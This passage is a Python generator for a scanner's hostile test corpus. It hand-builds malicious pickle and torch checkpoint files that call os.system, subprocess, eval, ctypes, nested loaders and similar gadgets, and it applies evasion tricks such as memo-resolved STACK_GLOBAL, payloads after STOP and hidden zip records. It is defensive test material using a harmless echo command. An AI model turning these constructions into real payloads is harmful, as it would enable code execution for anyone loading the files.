#!/usr/bin/env python3
"""Generate the hostile corpus of tests/hostile/: files/ and expected.json.

Every file is BUILT here, from Python's pickle/pickletools/zipfile/tarfile/struct/zlib and real
torch (pip torch 2.x) for the benign bases; no byte is copied from another project. Nothing that is
generated is ever unpickled by this script except the benign files, which are checked with
torch.load(weights_only=True) (or, for protocol 4/5 saves that weights_only refuses, with a static
opcode/global walk).

    python3 tests/hostile/gen_hostile.py            # (re)write files/ and expected.json

expected.json is a list of {"file", "verdict", "rule", "technique", "source"} with optional
  "alt":     [{"verdict", "rule"}]  other outcomes that are equally correct (used sparingly, only
             where the policy allows more than one reading, e.g. which of two structural errors
             is reported first);
  "subject": text that must appear in the subject of a finding carrying `rule` (proves that a
             global built from memo operands was resolved to the right name);
  "warnings": rules that must also appear among the findings (warnings/notes of safe files).
"rule" must appear among the findings of the file (null for safe files, which may carry
warnings but no error).

Payloads never do anything worse than `echo pthsafe-hostile`; they are never executed.
"""

import os
import sys

sys.dont_write_bytecode = True
if os.environ.get("PYTHONHASHSEED") != "0":  # deterministic set/dict order in torch pickles
    os.environ["PYTHONHASHSEED"] = "0"
    os.execv(sys.executable, [sys.executable] + sys.argv)

import gzip
import io
import json
import marshal
import pickle
import pickletools
import shutil
import struct
import tarfile
import warnings
import zipfile
from collections import Counter, OrderedDict

warnings.simplefilter("ignore")

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "support"))  # pickle_emit
OUT = os.path.join(HERE, "files")
CMD = "echo pthsafe-hostile"

import torch  # noqa: E402
from pickle_emit import (  # noqa: E402  (tests/support/pickle_emit.py)
    u8, u16, u32, i32, u64, PROTO2, STOP, MARK, POP, TUPLE, REDUCE, BUILD, NONE, EMPTY_TUPLE,
    EMPTY_LIST, EMPTY_DICT, NEWOBJ, APPEND, APPENDS, SETITEM, SETITEMS, BINPERSID, NEWFALSE,
    NEWTRUE, STACK_GLOBAL, MEMOIZE, glob, uni, suni, integer, put, get, enc, Raw, call, callv, pk,
    Rec, build_zip,
)

CASES = []  # expected.json entries


def add(name, data, verdict, rule, technique, source, alt=None, subject=None, warnings=None):
    assert not any(c["file"] == name for c in CASES), name
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    e = {"file": name, "verdict": verdict, "rule": rule, "technique": technique, "source": source}
    if alt:
        e["alt"] = alt
    if subject:
        e["subject"] = subject
    if warnings:
        e["warnings"] = warnings
    CASES.append(e)


# =========================================================================== gadgets
# Opcode emitters and the zip writer: tests/support/pickle_emit.py.
# Hand-assembled opcodes (pickletools names in comments). Protocol-2 encodings unless noted.

def getattr_chain(mod, attr, *args):
    """builtins.getattr(builtins.__import__(mod), attr)(*args)."""
    imp = call("builtins", "__import__", mod)
    fn = glob("builtins", "getattr") + MARK + imp + uni(attr) + TUPLE + REDUCE
    return callv(fn, *args)



SYSTEM = pk(call("os", "system", CMD))


def inject(original, payload_body):
    """fickling-style injection: run payload_body first, POP its result, then the original pickle."""
    assert original[:2] == PROTO2, original[:4]
    return PROTO2 + payload_body + POP + original[2:]


def torch_bytes(obj, **kw):
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def records_of(zbytes):
    z = zipfile.ZipFile(io.BytesIO(zbytes))
    return [Rec(i.filename, z.read(i.filename)) for i in z.infolist()]


def rezip(recs, **kw):
    return build_zip([Rec(r.name, r.data, r.method) if isinstance(r, Rec) else r for r in recs], **kw)


def replace(recs, suffix, data):
    out = []
    for r in recs:
        out.append(Rec(r.name, data) if r.name.endswith(suffix) else Rec(r.name, r.data))
    return out


def data_pkl(recs):
    return next(r.data for r in recs if r.name.endswith("/data.pkl"))


# =========================================================================== tensor pickles
# Hand-made data.pkl for storage/geometry attacks: {'w': _rebuild_tensor_v2(pid, off, size, stride)}

def tensor_expr(numel, size, stride, offset=0, storage="FloatStorage", key="0"):
    pid = MARK + uni("storage") + glob("torch", storage) + uni(key) + uni("cpu") + integer(numel) + TUPLE
    args = (MARK + pid + BINPERSID + integer(offset) + enc(tuple(size)) + enc(tuple(stride)) + NEWFALSE
            + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE)
    return glob("torch._utils", "_rebuild_tensor_v2") + args + REDUCE


def tensor_pickle(numel, size, stride, offset=0, storage="FloatStorage", key="0", extra=b""):
    t = tensor_expr(numel, size, stride, offset, storage, key)
    return PROTO2 + EMPTY_DICT + uni("w") + t + extra + SETITEM + STOP


def tensor_zip(pkl, storage_bytes, folder="archive", extra_recs=()):
    recs = [Rec(f"{folder}/data.pkl", pkl), Rec(f"{folder}/byteorder", b"little")]
    if storage_bytes is not None:
        recs.append(Rec(f"{folder}/data/0", storage_bytes))
    recs += list(extra_recs)
    recs += [Rec(f"{folder}/version", b"3\n"), Rec(f"{folder}/.data/serialization_id", b"0" * 40)]
    return build_zip(recs)


# =========================================================================== checks

ALLOWED_MODULE_NAMES = None


def torch_loads_weights_only(data):
    torch.load(io.BytesIO(data), weights_only=True)


def static_globals(pkl):
    """Every GLOBAL / STACK_GLOBAL name of a pickle (string operands resolved through the memo)."""
    names, stack, memo = [], [], {}
    for op, arg, _ in pickletools.genops(pkl):
        if op.name == "GLOBAL":
            names.append(arg.replace(" ", "."))
        elif op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8"):
            stack.append(arg)
        elif op.name == "MEMOIZE":
            memo[len(memo)] = stack[-1] if stack else None
        elif op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
            memo[arg] = stack[-1] if stack else None
        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
            stack.append(memo.get(arg))
        elif op.name == "STACK_GLOBAL":
            names.append(f"{stack[-2]}.{stack[-1]}")
        else:
            stack.append(None)
    return names


def allowed_global(name):
    # torch's default weights_only allowlist, as far as these benign files use it
    return (name.startswith("torch._utils._rebuild_") or name.startswith("torch.") and name.endswith("Storage")
            or name in {"collections.OrderedDict", "collections.Counter", "torch._tensor._rebuild_from_type_v2",
                        "torch.Size", "torch.device", "torch.Tensor", "torch.nn.parameter.Parameter",
                        "_codecs.encode", "__builtin__.bytearray", "__builtin__.set", "__builtin__.complex",
                        "builtins.bytearray", "builtins.set", "builtins.complex",
                        "torch.serialization._get_layout", "torch.UntypedStorage"}
            or name.startswith("torch.") and hasattr(torch, name.split(".", 1)[1])
            and isinstance(getattr(torch, name.split(".", 1)[1]), torch.dtype))


def zip_pickles(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return [z.read(n) for n in z.namelist() if n.endswith(".pkl")]


# =========================================================================== corpus

def base_state_dict(seed=0):
    torch.manual_seed(seed)
    m = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU(), torch.nn.Linear(2, 1))
    return m.state_dict()


def gen_gadgets():
    """peers.md §2a: callables a denylist misses. Bare pickles and injected torch checkpoints."""
    base = records_of(torch_bytes(base_state_dict()))
    orig = data_pkl(base)

    def zipped(body):
        return rezip(replace(base, "/data.pkl", inject(orig, body)))

    G = "pickle_global_refused"
    B = "pickle_global_blocked"
    inner = SYSTEM  # a nested pickle for the loaders-of-pickles gadgets
    code = marshal.dumps(compile(f"__import__('os').system({CMD!r})", "<x>", "exec"))
    items = [
        # name, container ('pkl' bare / 'zip' injected / ext), body, rule, technique, source
        ("os_system.pkl", "pkl", call("os", "system", CMD), B, "os.system", "peers §2a; torch blocklist sys/os/posix/nt"),
        ("posix_system.pt", "zip", call("posix", "system", CMD), B, "posix.system (alias of os)", "peers §2a submodule/alias names"),
        ("nt_system.pt", "pkl", call("nt", "system", CMD), B, "nt.system (Windows alias of os)", "peers §2a submodule/alias names"),
        ("sys_modules.pkl", "pkl", glob("sys", "modules"), B, "sys.modules handle", "torch _weights_only_unpickler.py GLOBAL handling blocklist"),
        ("subprocess_popen.pth", "zip", call("subprocess", "Popen", ["sh", "-c", CMD]), G, "subprocess.Popen", "peers §2a"),
        ("subprocess_check_output.pkl", "pkl", call("subprocess", "check_output", CMD), G, "subprocess.check_output", "peers §2a"),
        ("builtins_eval.pkl", "pkl", call("builtins", "eval", f"__import__('os').system({CMD!r})"), G, "builtins.eval", "peers §2a"),
        ("builtins_exec.pt", "zip", call("builtins", "exec", f"import os; os.system({CMD!r})"), G, "builtins.exec", "peers §2a"),
        ("builtins_getattr_import.pkl", "pkl", getattr_chain("os", "system", CMD), G, "builtins.getattr(builtins.__import__('os'), 'system')", "peers §2a universal resolvers"),
        ("builtins_import.pkl", "pkl", call("builtins", "__import__", "os"), G, "builtins.__import__", "peers §2a"),
        ("runpy_run_code.pkl", "pkl", call("runpy", "_run_code", f"import os; os.system({CMD!r})", {}), G, "runpy._run_code", "fickling GHSA-wfq2-52f7-7qvj"),
        ("runpy_run_path.pt", "zip", call("runpy", "run_path", "/tmp/payload.py"), G, "runpy.run_path", "fickling GHSA-wfq2-52f7-7qvj"),
        ("cprofile_run.pkl", "pkl", call("cProfile", "run", f"import os; os.system({CMD!r})"), G, "cProfile.run", "fickling GHSA-p523-jq9w-64x9"),
        ("profile_run.pkl", "pkl", call("profile", "run", f"import os; os.system({CMD!r})"), G, "profile.run", "peers §2a"),
        ("pty_spawn.pkl", "pkl", call("pty", "spawn", ["sh", "-c", CMD]), G, "pty.spawn", "fickling GHSA-r7v6-mfhq-g3m2"),
        ("pdb_run.pkl", "pkl", call("pdb", "run", f"import os; os.system({CMD!r})"), G, "pdb.run", "peers §2a pdb/bdb"),
        ("timeit_timeit.pkl", "pkl", call("timeit", "timeit", f"__import__('os').system({CMD!r})", "pass", Raw(NONE), 1), G, "timeit.timeit", "peers §2a"),
        ("code_interactive_interpreter.pkl", "pkl",
         callv(glob("builtins", "getattr") + MARK + glob("code", "InteractiveInterpreter") + EMPTY_TUPLE + NEWOBJ
               + uni("runsource") + TUPLE + REDUCE, f"import os; os.system({CMD!r})"), G,
         "code.InteractiveInterpreter().runsource via NEWOBJ + getattr", "fickling GHSA-5hvc-6wx8-mvv4"),
        ("ctypes_cdll.pkl", "pkl", callv(glob("builtins", "getattr") + MARK + call("ctypes", "CDLL", "libc.so.6") + uni("system") + TUPLE + REDUCE, CMD.encode()), G, "ctypes.CDLL('libc.so.6').system", "fickling GHSA-q5qq-mvfm-j35x"),
        ("importlib_import_module.pt", "zip", callv(glob("builtins", "getattr") + MARK + call("importlib", "import_module", "os") + uni("system") + TUPLE + REDUCE, CMD), G, "importlib.import_module('os').system", "fickling GHSA-q5qq-mvfm-j35x"),
        ("pkgutil_resolve_name.pkl", "pkl", callv(call("pkgutil", "resolve_name", "os:system"), CMD), G, "pkgutil.resolve_name('os:system')", "peers §2a universal resolvers (promptfoo)"),
        ("operator_attrgetter.pkl", "pkl", callv(call("operator", "attrgetter", "system"), Raw(call("importlib", "import_module", "os"))), G, "operator.attrgetter", "picklescan GHSA-m273-6v24-x4m4"),
        ("operator_methodcaller.pkl", "pkl", callv(call("operator", "methodcaller", "system", CMD), Raw(call("importlib", "import_module", "os"))), G, "operator.methodcaller", "picklescan GHSA-955r-x9j8-7rhh"),
        ("_operator_attrgetter.pkl", "pkl", callv(call("_operator", "attrgetter", "system"), Raw(call("importlib", "import_module", "os"))), G, "_operator.attrgetter (C module alias)", "picklescan GHSA-955r-x9j8-7rhh"),
        ("functools_partial.pkl", "pkl", callv(call("functools", "partial", Raw(glob("builtins", "eval")), f"__import__('os').system({CMD!r})")), G, "functools.partial(eval, src)()", "peers §2a"),
        ("pip_main.pt", "zip", call("pip", "main", ["install", "pthsafe-hostile-nonexistent"]), G, "pip.main", "CVE-2025-1716 (picklescan <0.0.21)"),
        ("webbrowser_open.pkl", "pkl", call("webbrowser", "open", "http://127.0.0.1:9/pthsafe-hostile"), G, "webbrowser.open", "peers §2a"),
        ("shutil_rmtree.pkl", "pkl", call("shutil", "rmtree", "/tmp/pthsafe-hostile-nonexistent"), G, "shutil.rmtree", "peers §2a"),
        ("asyncio_unix_subprocess.pt", "zip", call("asyncio.unix_events", "_UnixSubprocessTransport._start", Raw(NONE), ["sh", "-c", CMD], True, Raw(NONE), Raw(NONE), Raw(NONE), 0), G, "asyncio.unix_events._UnixSubprocessTransport._start", "CVE-2025-10157"),
        ("torch_load_nested.pt", "zip", call("torch", "load", Raw(call("io", "BytesIO", inner))), G, "torch.load of a nested pickle", "peers §2a third-party ML gadgets"),
        ("torch_hub_load.pth", "zip", call("torch.hub", "load", "attacker/repo", "model"), G, "torch.hub.load", "peers §2a third-party ML gadgets"),
        ("torch_load_from_bytes.pt", "zip", call("torch.storage", "_load_from_bytes", inner), G, "torch.storage._load_from_bytes (nested pickle)", "peers §2a third-party ML gadgets"),
        ("numpy_runstring.pkl", "pkl", call("numpy.testing._private.utils", "runstring", f"import os; os.system({CMD!r})", {}), G, "numpy.testing._private.utils.runstring", "peers §2a third-party ML gadgets"),
        ("torch_collect_env_run.pt", "zip", call("torch.utils.collect_env", "run", CMD), G, "torch.utils.collect_env.run", "peers §2a third-party ML gadgets (modelscan#338)"),
        ("pickle_loads_nested.pkl", "pkl", call("pickle", "loads", inner), G, "pickle.loads of a nested pickle", "picklescan GHSA-84r2-jw7c-4r5q"),
        ("_pickle_loads_nested.pkl", "pkl", call("_pickle", "loads", inner), G, "_pickle.loads (C alias)", "fickling GHSA-wccx-j62j-r448"),
        ("marshal_function.pkl", "pkl", callv(call("types", "FunctionType", Raw(call("marshal", "loads", code)), {})), G, "types.FunctionType(marshal.loads(code), {})()", "fickling GHSA-565g-hwwr-4pp3"),
        ("types_codetype.pkl", "pkl", call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", "x", 1, b"", b"", (), ()), G, "types.CodeType construction", "fickling GHSA-565g-hwwr-4pp3"),
        ("doctest_debug_script.pkl", "pkl", call("doctest", "debug_script", f"import os; os.system({CMD!r})"), G, "doctest.debug_script", "fickling GHSA-m6fh-58r7-x697"),
        ("io_fileio_write.pkl", "pkl", callv(glob("builtins", "getattr") + MARK + call("_io", "FileIO", "/tmp/pthsafe-hostile", "w") + uni("write") + TUPLE + REDUCE, b"x"), G, "_io.FileIO write", "peers §2a alias names"),
        ("distutils_write_file.pkl", "pkl", call("distutils.file_util", "write_file", "/tmp/pthsafe-hostile", ["x"]), G, "distutils.file_util.write_file", "peers §2a alias names"),
        ("multiprocessing_spawnv.pkl", "pkl", call("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["sh", "-c", CMD], ()), G, "multiprocessing.util.spawnv_passfds", "fickling GHSA-q5qq-mvfm-j35x"),
        ("uuid_get_command_stdout.pkl", "pkl", call("uuid", "_get_command_stdout", "sh", "-c", CMD), G, "uuid._get_command_stdout (calls Popen)", "peers §2a"),
        ("rebuild_from_numpy.pt", "zip", call("torch._utils", "_rebuild_device_tensor_from_numpy", Raw(NONE), Raw(NONE), "xla", False), G, "torch._utils._rebuild_device_tensor_from_numpy (needs numpy; refused by policy)", "docs/policy.md Globals"),
        ("rebuild_xla_tensor.pt", "zip", call("torch._utils", "_rebuild_xla_tensor", Raw(NONE), Raw(NONE), "xla", False), G, "torch._utils._rebuild_xla_tensor (never allowlisted)", "torch _weights_only_unpickler.py allowlist"),
        ("py2_builtin_eval.pkl", "pkl", call("__builtin__", "eval", f"__import__('os').system({CMD!r})"), G, "py2 name __builtin__.eval (maps to builtins.eval)", "peers §2a; torch _weights_only_unpickler.py GLOBAL handling IMPORT_MAPPING"),
        ("py2_copy_reg_reconstructor.pkl", "pkl", call("copy_reg", "_reconstructor", Raw(glob("subprocess", "Popen")), Raw(glob("__builtin__", "object")), Raw(NONE)), G, "py2 name copy_reg._reconstructor (maps to copyreg)", "torch _weights_only_unpickler.py GLOBAL handling IMPORT_MAPPING"),
        ("py2_builtin_getattr.pt", "zip", callv(glob("__builtin__", "getattr") + MARK + call("__builtin__", "__import__", "os") + uni("system") + TUPLE + REDUCE, CMD), G, "py2 name __builtin__.getattr/__import__", "torch _weights_only_unpickler.py GLOBAL handling"),
        ("dotted_builtins_subclasses.pkl", "pkl", call("builtins", "print.__class__.__base__.__subclasses__"), G, "dotted attribute chain from builtins (print.__class__.__base__.__subclasses__)", "modelscan#338"),
        ("dotted_pathlib_os_system.pkl", "pkl", call("pathlib", "os.system", CMD), G, "dotted name: pathlib + os.system", "fickling GHSA-5j3x-jp52-966f"),
        ("dotted_ordereddict_attr.pkl", "pkl", callv(glob("collections", "OrderedDict.__init__.__globals__.get"), "sys"), G, "dotted name rooted at an allowed global (collections.OrderedDict.<attr>)", "docs/policy.md Globals (no attribute walking)"),
        ("dotted_torch_attr.pt", "zip", callv(glob("torch", "Tensor.__reduce_ex__.__globals__.get"), "sys"), G, "dotted name rooted at an allowed global (torch.Tensor.<attr>)", "docs/policy.md Globals (no attribute walking)"),
        ("scanner_self_disable.pkl", "pkl", call("fickling", "always_check_safety") + POP + call("os", "system", CMD), G, "scanner self-disable import (fickling) before the payload", "fickling GHSA-fphw-536r-4p88"),
    ]
    for name, kind, body, rule, tech, src in items:
        if kind == "pkl":
            add(name, pk(body), "unsafe", rule, tech, src)
        else:
            add(name, zipped(body), "unsafe", rule, tech + " (injected before a real torch state_dict)", src)

    # A whole nn.Module pickled by torch.save (torch-made): every class is a global.
    torch.manual_seed(1)
    model = torch.nn.Sequential(torch.nn.Linear(2, 2))
    add("whole_module_torch_save.pt", torch_bytes(model), "unsafe", G,
        "torch.save(nn.Module) (class globals torch.nn.modules.*)", "torch _weights_only_unpickler.py allowlist; mlcommons/inference#2056 class")


def gen_vm():
    """peers.md §2b: differences in how the pickle VM is parsed."""
    G, B = "pickle_global_refused", "pickle_global_blocked"
    OR = "pickle_opcode_refused"

    # STACK_GLOBAL straight, and with operands that only a full memo simulation resolves.
    add("stack_global_os_system.pkl", b"\x80\x04" + suni("os") + suni("system") + STACK_GLOBAL + enc((CMD,)) + REDUCE + STOP,
        "unsafe", B, "STACK_GLOBAL os.system (protocol 4)", "peers §2b", subject="os.system")
    body = (suni("posix") + put(7) + POP + uni("collections") + put(3) + POP       # decoys
            + suni("system") + put(9) + POP + uni("OrderedDict") + put(4) + POP
            + get(7) + get(9) + STACK_GLOBAL + enc((CMD,)) + REDUCE)
    add("stack_global_memo_binput.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
        "STACK_GLOBAL operands from BINPUT/BINGET with decoy strings in between", "picklescan #14/#22; peers §2b", subject="posix.system")
    body = (suni("collections") + MEMOIZE + suni("OrderedDict") + MEMOIZE + POP + POP
            + suni("builtins") + MEMOIZE + suni("eval") + MEMOIZE + POP + POP
            + get(2) + get(3) + STACK_GLOBAL + enc((f"__import__('os').system({CMD!r})",)) + REDUCE)
    add("stack_global_memoize.pkl", b"\x80\x04\x95" + u64(len(body) + 1) + body + STOP, "unsafe", G,
        "STACK_GLOBAL operands from MEMOIZE numbering (inside a FRAME)", "peers §2b", subject="builtins.eval")
    # Mixed numbering: text PUT 0/1 then MEMOIZE (index = len(memo) = 2, 3), then a MEMOIZE that
    # overwrites index 1 after a POP-free re-PUT: a scanner that counts MEMOIZE from 0 resolves
    # GET 2/3 to nothing and GET 1 to 'OrderedDict'.
    body = (b"Vcollections\np0\n0" + b"VOrderedDict\np1\n0"
            + suni("subprocess") + MEMOIZE + POP + suni("Popen") + MEMOIZE + POP
            + get(2) + get(3) + STACK_GLOBAL + enc((["sh", "-c", CMD],)) + REDUCE)
    add("stack_global_mixed_put_memoize.pkl", b"\x80\x04" + body + STOP, "unsafe", G,
        "STACK_GLOBAL with mixed PUT / MEMOIZE numbering", "peers §2b; ModelAudit BINGET fixes", subject="subprocess.Popen")
    body = (suni("nt") + b"r" + u32(0xFFFFFFF0) + POP + suni("system") + b"r" + u32(0x7FFFFFFF) + POP
            + b"j" + u32(0xFFFFFFF0) + b"j" + u32(0x7FFFFFFF) + STACK_GLOBAL + enc((CMD,)) + REDUCE)
    add("stack_global_long_binput.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
        "STACK_GLOBAL operands stored at huge LONG_BINPUT indices", "peers §2b/§2d", subject="nt.system")
    # EOP: a STACK_GLOBAL operand that is not a string (CPython raises) followed by the payload.
    body = integer(5) + suni("x") + STACK_GLOBAL + POP + call("os", "system", CMD)
    add("stack_global_nonstring_then_payload.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
        "STACK_GLOBAL with an int operand (an error), then a payload", "picklescan GHSA-9gvj-pp9x-gcfr (EOP); peers §2b")
    body = get(42) + POP + call("os", "system", CMD)
    add("memo_missing_then_payload.pkl", pk(body), "unsafe", B,
        "BINGET of an index never PUT (scanner KeyError), then a payload", "picklescan PR #52; peers §2b")

    # Opcodes torch's weights_only never implements.
    add("inst_os_system.pkl", b"(" + enc(CMD) + b"ios\nsystem\n.", "unsafe", OR,
        "INST os.system (protocol 0 call opcode)", "peers §2b INST/OBJ", alt=[{"verdict": "unsafe", "rule": B}])
    add("inst_allowed_class.pkl", b"(icollections\nOrderedDict\n.", "unsafe", OR,
        "INST on an allowed class (the opcode itself is refused)", "torch _weights_only_unpickler.py")
    add("obj_allowed_class.pkl", PROTO2 + MARK + glob("collections", "OrderedDict") + b"o" + STOP, "unsafe", OR,
        "OBJ on an allowed class", "torch _weights_only_unpickler.py")
    add("obj_popen_pop.pkl", PROTO2 + MARK + glob("subprocess", "Popen") + enc(["sh", "-c", CMD]) + b"o" + POP + EMPTY_DICT + STOP,
        "unsafe", G, "OBJ subprocess.Popen followed by POP (call vanishes from an AST)", "fickling GHSA-mxhj-88fx-4pcv")
    add("newobj_popen_pop.pkl", PROTO2 + glob("subprocess", "Popen") + enc((["sh", "-c", CMD],)) + NEWOBJ + POP + EMPTY_DICT + STOP,
        "unsafe", G, "NEWOBJ subprocess.Popen followed by POP", "fickling GHSA-mxhj-88fx-4pcv")
    add("newobj_ex.pkl", b"\x80\x04" + glob("collections", "OrderedDict") + EMPTY_TUPLE + EMPTY_DICT + b"\x92" + STOP,
        "unsafe", OR, "NEWOBJ_EX (protocol 4 keyword construction)", "torch _weights_only_unpickler.py")
    for n, op in (("ext1", b"\x82" + u8(1)), ("ext2", b"\x83" + u16(0x1234)), ("ext4", b"\x84" + u32(0x7FFFFFFF))):
        add(f"{n}.pkl", PROTO2 + op + enc((CMD,)) + REDUCE + STOP, "unsafe", OR,
            f"{n.upper()} (copyreg extension registry as call target)", "ModelAudit #623; huggingface/transformers#18801")
    add("persid_text.pkl", b"Pos.system\n.", "unsafe", OR, "PERSID (text persistent id)", "docs/policy.md Opcodes")
    add("binpersid_module.pt", tensor_zip(PROTO2 + enc(("module", "Linear", "x.py", "import os")) + BINPERSID + STOP, None),
        "unsafe", "pickle_persid_refused", "BINPERSID ('module', ...) legacy nn.Module source", "torch serialization.py legacy_load")
    add("binpersid_int.pkl", PROTO2 + integer(7) + BINPERSID + STOP, "unsafe", "pickle_persid_refused",
        "BINPERSID with an int id", "torch _weights_only_unpickler.py")
    add("newobj_device_no_build.pkl", PROTO2 + glob("torch", "device") + EMPTY_TUPLE + NEWOBJ + STOP, "unsafe",
        "pickle_call_refused", "NEWOBJ on an allowed C class without arguments or BUILD",
        "torch's published weights_only fixes (test_weights_only_newobj_requires_build)",
        alt=[{"verdict": "malformed", "rule": "bad_rebuild_args"}])
    add("reduce_on_dtype.pkl", PROTO2 + glob("torch", "float32") + EMPTY_TUPLE + REDUCE + STOP, "unsafe", "pickle_call_refused",
        "REDUCE on an allowed non-callable (torch.float32)", "docs/policy.md Opcodes")
    add("build_on_dict.pkl", PROTO2 + EMPTY_DICT + enc({"__class__": 1}) + BUILD + STOP, "unsafe", "pickle_build_refused",
        "BUILD on a plain dict", "docs/policy.md Opcodes; modelscan#85 (BUILD setattr)")
    add("build_on_list.pkl", PROTO2 + EMPTY_LIST + enc(({}, {"append": 1})) + BUILD + STOP, "unsafe", "pickle_build_refused",
        "BUILD with slot state on a list", "docs/policy.md Opcodes")
    add("append_on_dict.pkl", PROTO2 + EMPTY_DICT + integer(1) + APPEND + STOP, "unsafe", "pickle_append_refused",
        "APPEND on a dict", "docs/policy.md Opcodes")
    add("appends_on_set.pkl", PROTO2 + glob("builtins", "set") + EMPTY_TUPLE + REDUCE + MARK + integer(1) + APPENDS + STOP,
        "unsafe", "pickle_append_refused", "APPENDS on a set (allowed global, wrong container)", "torch _weights_only_unpickler.py")
    add("setitem_on_list.pkl", PROTO2 + EMPTY_LIST + integer(0) + integer(1) + SETITEM + STOP, "unsafe", "pickle_setitem_refused",
        "SETITEM on a list", "CVE-2026-24747 (GHSA-63cw-57p8-fm3p)")
    add("setitems_on_size.pkl", PROTO2 + glob("torch", "Size") + enc(((2, 3),)) + REDUCE + MARK + integer(0) + integer(9) + SETITEMS + STOP,
        "unsafe", "pickle_setitem_refused", "SETITEMS on a torch.Size", "CVE-2026-24747")

    # Payload first, broken after (CPython runs REDUCE before it reaches the damage).
    add("payload_then_truncated.pkl", (PROTO2 + call("os", "system", CMD) + POP + EMPTY_DICT + uni("abcdef"))[:-3],
        "unsafe", B, "REDUCE os.system, then the stream is cut", "nullifAI (ReversingLabs 2025); peers §2b")
    add("payload_then_bad_opcode.pt", PROTO2 + call("subprocess", "Popen", ["sh", "-c", CMD]) + POP + b"\xff\xfe" + STOP,
        "unsafe", G, "REDUCE subprocess.Popen, then an invalid opcode (.pt name)", "nullifAI; peers §2b")
    add("payload_then_junk.bin", PROTO2 + call("builtins", "exec", f"import os; os.system({CMD!r})") + b"\x00" * 40,
        "unsafe", G, "payload then zero bytes without STOP (.bin name)", "nullifAI; peers §2b")
    # Payload after a malformed point on which CPython's readers disagree.
    add("octal_int_then_payload.pkl", b"I0777\n0" + call("os", "system", CMD) + STOP,
        "unsafe", B, "text INT '0777' (C strtol base 0 reads 511, pickle.py raises), then a payload",
        "PickleFuzzer arXiv 2605.15084; docs/policy.md")
    add("reduce_list_args_then_payload.pkl", PROTO2 + glob("builtins", "set") + EMPTY_LIST + REDUCE + POP + call("os", "system", CMD) + STOP,
        "unsafe", B, "REDUCE whose args are a list (pickle.py calls, _pickle raises), then a payload",
        "PickleFuzzer arXiv 2605.15084; docs/policy.md")
    add("underscore_int_then_payload.pkl", b"I1_000\n0" + call("posix", "system", CMD) + STOP,
        "unsafe", B, "text INT with an underscore, then a payload", "PickleFuzzer; docs/policy.md")
    add("frame_overrun_then_payload.pkl", b"\x80\x04\x95" + u64(10_000) + call("os", "system", CMD) + STOP,
        "unsafe", B, "FRAME longer than the data, payload inside", "fickling FRAME length analysis; peers §2b")
    body = call("os", "system", CMD) + STOP
    add("frame_straddle_payload.pkl", b"\x80\x04\x95" + u64(5) + body, "unsafe", B,
        "FRAME ends inside the GLOBAL operand of the payload", "docs/policy.md (operands straddling a FRAME end)")
    add("second_proto_then_payload.pkl", PROTO2 + EMPTY_DICT + POP + b"\x80\x05" + call("os", "system", CMD) + STOP,
        "unsafe", B, "misplaced second PROTO, then a payload", "fickling DuplicateProto/MisplacedProto")

    # Protocol 0/1 text pickles made by CPython's own pickler, under checkpoint names.
    class P0:
        def __reduce__(self):
            return (os.system, (CMD,))
    add("proto0_text.bin", pickle.dumps(P0(), protocol=0), "unsafe", B,
        "protocol 0 text pickle in a .bin file", "CVE-2025-10155; ModelAudit #624")
    add("proto1_text.pt", pickle.dumps(P0(), protocol=1), "unsafe", B,
        "protocol 1 pickle in a .pt file", "CVE-2025-10155; CVE-2025-1889")

    class P0e:
        def __reduce__(self):
            return (eval, (f"__import__('os').system({CMD!r})",))
    add("proto0_eval.txt", pickle.dumps(P0e(), protocol=0), "unsafe", G,
        "protocol 0 pickle named payload.txt-style", "ModelAudit #624")

    # Bytes after STOP: a second pickle.
    benign = pickle.dumps({"a": 1}, protocol=2)
    add("after_stop_pickle.pkl", benign + SYSTEM, "unsafe", B, "malicious pickle after the STOP of a benign one",
        "docs/policy.md (bytes after STOP scanned)")
    add("after_stop_junk.pkl", benign + b"garbage\x00\x01", "malformed", "pickle_trailing_data", "junk after STOP",
        "docs/policy.md")
    add("after_stop_benign.pkl", benign + benign, "malformed", "pickle_trailing_data", "two benign pickles back to back",
        "docs/policy.md")


def gen_containers():
    """peers.md §2c: container tricks, and the CVE fixes of torch's published weights_only fixes."""
    B, G = "pickle_global_blocked", "pickle_global_refused"
    sd = base_state_dict(2)
    tb = torch_bytes(sd)
    base = records_of(tb)
    # Self-check: the writer reproduces torch's archive byte for byte.
    assert rezip(base) == tb, "zip writer drifted from torch's layout"
    orig = data_pkl(base)
    evil = inject(orig, call("os", "system", CMD))

    def with_recs(recs, **kw):
        return build_zip(recs, **kw)

    R = lambda name, data, **kw: Rec(name, data, **kw)  # noqa: E731

    # Hidden pickles in records torch never reads.
    add("extra_record_pickle.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/extra/payload.pkl", SYSTEM)]),
        "unsafe", B, "malicious pickle in an extra record", "ModelAudit PR #1043/#1098; docs/policy.md")
    p0 = pickle.dumps(type("X", (), {"__reduce__": lambda s: (eval, ("1",))})(), protocol=0)
    add("extra_record_noext_proto0.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/model_config", p0)]),
        "unsafe", G, "protocol 0 pickle in an extensionless extra record", "ModelAudit PR #1098; peers §2c")
    recs = [Rec(r.name, r.data) for r in base]
    recs.insert(-2, R("archive/data/7", SYSTEM))
    add("data_key_record_pickle.pt", with_recs(recs), "unsafe", B,
        "pickle hidden in an unreferenced data/<key> record", "ModelAudit PR #1043; peers §2c")
    big_first = pickle.dumps({"pad": "x" * 6000}, protocol=2)[:-1] + POP + call("os", "system", CMD)[0:] + STOP
    add("extra_record_late_payload.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/aux.pkl", big_first)]),
